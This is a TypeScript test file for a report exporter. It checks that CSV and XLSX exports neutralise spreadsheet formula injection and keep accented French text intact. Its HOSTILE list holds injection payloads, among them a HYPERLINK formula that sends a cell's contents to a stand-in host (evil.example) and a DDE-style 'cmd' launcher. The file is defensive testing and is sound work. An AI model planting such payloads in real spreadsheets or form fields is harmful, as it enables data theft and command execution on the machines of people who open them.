import { execFile } from 'node:child_process';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { reportFile, type Asked } from '../../server/report/file.ts';
import type { SessionEvent } from '../../session/events.ts';
import type { Attendance } from '../../session/report/report.ts';
import { aSession } from '../session/a-session.ts';
import { AT, event } from '../session/given.ts';
import { shipped } from '../session/shipped.ts';

/** What somebody may write who wants more from a spreadsheet than to be read. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
  '=7*191',
  '+33 6 12 34 56 78',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\uFF1D7*192',
  ' =7*193',
];

/** What must come through as it is. */
const ACCENTS = 'Été, où ? « Noël » ; ça coûte 3\u202f000 €, à l’œil "entre guillemets"';

const commitment = shipped.find(({ survey }) => survey === 'commitment')!;

/** A session whose people, deck and scenario all write such things. */
const log: SessionEvent[] = [
  event('session-opened', {
    code: 'K7PRXM',
    lang: 'fr',
    deck: {
      id: '../=deck',
      title: '=7*191',
      slides: [{ h: 0, v: 0, title: '', notes: '', scenario: commitment.ref }],
    },
  }),
  event('scenario-presented', {
    scenario: { ...commitment, title: '@SUM(A1)', question: '=7*191' },
  }),
  event('round-opened', { ref: commitment.ref, step: 'write', round: 1, opening: 1 }),
  ...[...HOSTILE, ACCENTS].map((text, i) =>
    event('answer-cast', {
      participant: `p${i}`,
      opening: 1,
      answer: { text },
      commandId: `c${i}`,
    }),
  ),
  event('round-closed', { opening: 1 }),
];

const attendance: Attendance[] = [
  { name: 'Zoé Lefèvre', first: AT, last: AT + 3_600_000, minutes: 58 },
  { name: '=cmd()', first: AT, last: AT + 60_000, minutes: 1 },
];

const made = async (asked: Partial<Asked>, of: readonly SessionEvent[] = log) => {
  const file = await reportFile(of, {
    format: 'csv',
    lang: 'fr',
    attendance,
    timeZone: 'Europe/Paris',
    ...asked,
  });
  return { ...file, text: typeof file.body === 'string' ? file.body : '' };
};

/** Reads CSV as RFC 4180 has it. */
function parsed(text: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  const cell = new RegExp(
    `(?:"((?:[^"]|"")*)"|([^"${separator}\\r\\n]*))(${separator}|\\r\\n|$)`,
    'y',
  );
  while (cell.lastIndex < text.length) {
    const read = cell.exec(text);
    if (!read) throw new Error('not CSV');
    const [, quoted, plain, end] = read;
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain!);
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

describe('the CSV of a report', () => {
  it('is UTF-8 with a byte order mark, and has as many fields in every row', async () => {
    for (const [lang, separator] of [
      ['fr', ';'],
      ['en', ','],
    ] as const) {
      const { text, name, type } = await made({ lang });
      expect(text.startsWith('\uFEFF')).toBe(true);
      expect(type).toBe('text/csv; charset=utf-8');
      expect(name).toMatch(/^[\w-]+-2023-11-14-(rapport|report)\.csv$/);
      const rows = parsed(text.slice(1), separator);
      expect(new Set(rows.map((row) => row.length))).toEqual(new Set([8]));
      expect(rows.flat()).toContain(ACCENTS);
    }
  });

  it('has no cell that a spreadsheet would run', async () => {
    const cells = parsed((await made({})).text.slice(1), ';').flat();
    expect(cells.filter((cell) => /^[\s]*[=+\-@\uFF1D]/.test(cell))).toEqual([]);
    for (const text of HOSTILE.slice(0, 5)) expect(cells).toContain(`'${text}`);
    expect(cells).toContain(`'=cmd()`);
  });

  it('writes decimals as the language does', async () => {
    const satisfaction = shipped.filter(({ survey }) => survey === 'satisfaction');
    const of = aSession({ scenarios: satisfaction, people: 30, seed: 3 });
    expect((await made({ lang: 'fr' }, of)).text).toMatch(/Note moyenne;1–5;\d,\d+;/);
    expect((await made({ lang: 'en' }, of)).text).toMatch(/Mean mark,1–5,\d\.\d+,/);
  });

  it('gives times on the clocks of those who were there', async () => {
    // 22:13:20 UTC.
    expect((await made({ timeZone: 'Europe/Paris' })).text).toContain('2023-11-14 23:13');
    expect((await made({ timeZone: 'America/Montreal' })).text).toContain('2023-11-14 17:13');
  });
});

describe('the workbook of a report', () => {
  const sheetsOf = async (of?: readonly SessionEvent[]) => {
    const { body } = await made({ format: 'xlsx' }, of);
    const files = unzipSync(body as Uint8Array);
    return Object.fromEntries(Object.entries(files).map(([name, file]) => [name, strFromU8(file)]));
  };

  it('has a sheet for each section', async () => {
    const names = [
      ...(await sheetsOf())['xl/workbook.xml']!.matchAll(/<sheet [^>]*?name="([^"]+)"/g),
    ];
    expect(names.map(([, name]) => name)).toEqual(['Séance', 'Textes', 'Enquête', 'Présences']);
    const whole = await sheetsOf(aSession({ scenarios: shipped.slice(0, 3), people: 5, seed: 1 }));
    expect(whole['xl/workbook.xml']).toContain('Résultats');
  });

  it('has texts and numbers, and no formula', async () => {
    const files = await sheetsOf();
    const sheets = Object.entries(files).filter(([name]) => name.includes('worksheets/sheet'));
    expect(sheets.length).toBe(4);
    for (const [, xml] of sheets) expect(xml).not.toMatch(/<f[ >/]/);
    expect(Object.values(files).join('')).toContain('Zoé Lefèvre');
  });
});

const soffice = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((path) => existsSync(path));

describe.skipIf(!soffice)('LibreOffice', () => {
  const sheets: Record<string, string> = {};

  beforeAll(async () => {
    const folder = await mkdtemp(join(tmpdir(), 'connivence-'));
    for (const format of ['csv', 'xlsx'] as const) {
      const file = join(folder, `report.${format}`);
      await writeFile(file, (await made({ format })).body);
      // Every sheet, as text, formulas shown as what they come to.
      const filter = 'csv:Text - txt - csv (StarCalc):9,34,76,1,,0,false,true,false,false,false,-1';
      const input = format === 'csv' ? ['--infilter=CSV:59,34,76,1,,1036,false,true,false'] : [];
      await promisify(execFile)(soffice!, [
        `-env:UserInstallation=file://${folder}/profile`,
        '--headless',
        ...input,
        '--convert-to',
        filter,
        '--outdir',
        join(folder, format),
        file,
      ]);
      const names = await promisify(execFile)('ls', [join(folder, format)]);
      const texts = names.stdout
        .trim()
        .split('\n')
        .map((name) => readFile(join(folder, format, name), 'utf8'));
      sheets[format] = (await Promise.all(texts)).join('\n');
    }
  }, 120_000);

  it.each(['csv', 'xlsx'])('opens the %s with its accents, and runs nothing in it', (format) => {
    const text = sheets[format]!;
    expect(text).toContain('Été, où ? « Noël »');
    expect(text).toContain('Zoé Lefèvre');
    // A formula would have left its value.
    for (const hostile of ['=7*191', '@SUM(1+1)*cmd', '=HYPERLINK'])
      expect(text).toContain(hostile);
    expect(text).not.toMatch(/1337|1344|1351|Err:\d|#[A-Z]+[?!]/);
  });
});
